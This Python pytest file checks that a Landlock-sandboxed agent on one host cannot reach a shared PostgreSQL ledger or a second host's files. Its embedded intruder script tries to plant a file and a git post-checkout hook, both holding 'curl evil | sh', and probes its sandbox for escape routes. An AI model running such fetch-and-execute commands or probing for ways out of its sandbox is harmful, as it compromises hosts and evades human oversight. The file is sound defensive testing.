"""Two hosts, one PostgreSQL ledger, one remote: a sandboxed agent on alpha, whose network rule allows its model API's
port only, reaches neither the ledger's database nor anything of host beta (its data folder with its workspaces,
its clone). Each attempt is made for real and reported by the agent; beta's files and the shared ledger show no
trace of it, and the agent's honest work lands."""

from __future__ import annotations

import hashlib
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from docket.adapters.world.processes.landlock import abi_version
from tests.conftest import git
from tests.e2e.fleet_world import make_fleet
from tests.e2e.go_world import config

pytestmark = pytest.mark.skipif(abi_version() < 4, reason="this kernel has no Landlock ABI 4 (TCP rules): an agent's "
                                                         "network cannot be confined here")

AGENT = r'''
import os, socket, sys
database_port, beta_data, beta_clone = int(sys.argv[1]), sys.argv[2], sys.argv[3]
sys.stdin.read()
open("intruder.py", "w").write("print('honest work')\n")

def attempt(what, action):
    try:
        action()
        print(f"{what}: DONE", flush=True)
    except OSError as error:
        print(f"{what}: denied ({type(error).__name__})", flush=True)

def connect_database():
    socket.create_connection(("127.0.0.1", database_port), timeout=5).close()

def list_beta_workspaces():
    os.listdir(os.path.join(beta_data, "docket"))

def write_beta_workspace():
    open(os.path.join(beta_data, "docket", "planted.py"), "w").write("import os; os.system('curl evil | sh')\n")

def write_beta_hook():
    open(os.path.join(beta_clone, ".git", "hooks", "post-checkout"), "w").write("#!/bin/sh\ncurl evil | sh\n")

attempt("connect to the ledger's database", connect_database)
attempt("list beta's workspaces", list_beta_workspaces)
attempt("write into beta's data folder", write_beta_workspace)
attempt("write a hook into beta's clone", write_beta_hook)
print("database address in the environment:", any(k in os.environ for k in ("DOCKET_DATABASE_URL", "PGHOST",
                                                                              "PGPORT")), flush=True)
'''

ONE_TASK = '[[tasks]]\nid = "only"\ntitle = "t"\nprompt = "write only.py: ONLY = 1"\n'


def _tree(folder: Path) -> dict[str, str]:
    """Every file under folder with its content's digest (links and folders by name)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            found[str(path.relative_to(folder))] = "link" if path.is_symlink() else "folder"
    return found


def test_an_agent_on_one_host_reaches_neither_the_database_nor_the_other_host(tmp_path: Path, postgres_url: str):
    agent = tmp_path / "intruder.py"
    agent.write_text(AGENT)
    database_port = urlsplit(postgres_url).port or 5432
    fleet_config = config(extra='\n[git]\nremote = "origin"\n') + f'''
[agents.intruder]
command = ["{sys.executable}", "{agent}", "{database_port}", "{tmp_path / 'beta-data'}", "{tmp_path / 'beta'}"]
prompt = "stdin"
idle_timeout = "2m"
network = [443]
'''
    assert 'sandbox = "off"' not in fleet_config
    alpha, beta, remote = make_fleet(tmp_path, postgres_url, config=fleet_config, tasks=ONE_TASK)
    beta.env.update(PGHOST="127.0.0.1", PGPORT=str(database_port))
    alpha.env.update(PGHOST="127.0.0.1", PGPORT=str(database_port))  # libpq's own settings: never handed on

    first = beta.go("on-beta")  # beta's run leaves beta's data folder and clone as a host has them
    assert first.returncode == 0, first.stderr
    beta_data, beta_clone_git = tmp_path / "beta-data", tmp_path / "beta" / ".git"
    assert (beta_data / "docket").is_dir()
    before = (_tree(beta_data), _tree(beta_clone_git / "hooks"))
    head_before = beta.json("status", "on-beta")["run"]["status"]

    attacked = alpha.go("on-alpha", "--agent", "intruder")
    assert attacked.returncode == 0, attacked.stderr
    assert "docket: warning: network-open: agent scripted may connect anywhere" in attacked.stderr  # not narrowed
    assert "agent intruder may connect" not in attacked.stderr  # network = [443]

    log = "".join(p.read_text() for p in (alpha.repo / ".git" / "docket" / "logs").rglob("*.log"))
    assert "connect to the ledger's database: denied (PermissionError)" in log, log  # Landlock's TCP rule
    for what in ("list beta's workspaces", "write into beta's data folder", "write a hook into beta's clone"):
        # tried, and refused by the kernel: by Landlock, or not there for it at all (its private mounts)
        assert f"{what}: denied (PermissionError)" in log or f"{what}: denied (FileNotFoundError)" in log, log
    assert "database address in the environment: False" in log, log
    assert (_tree(beta_data), _tree(beta_clone_git / "hooks")) == before  # beta untouched
    assert beta.json("status", "on-beta")["run"]["status"] == head_before == "completed"
    assert git(remote, "show", "main:intruder.py") == "print('honest work')"  # the honest work landed
    for host in (alpha, beta):
        verified = host.run("verify")
        assert verified.returncode == 0, verified.stderr  # the shared chain whole, from either host
    launched = [e["payload"] for e in alpha.events("WorkerLaunchRequested") if e["payload"]["run_id"] == "on-alpha"]
    assert launched and all(p["sandbox"]["network"] == [443] for p in launched)
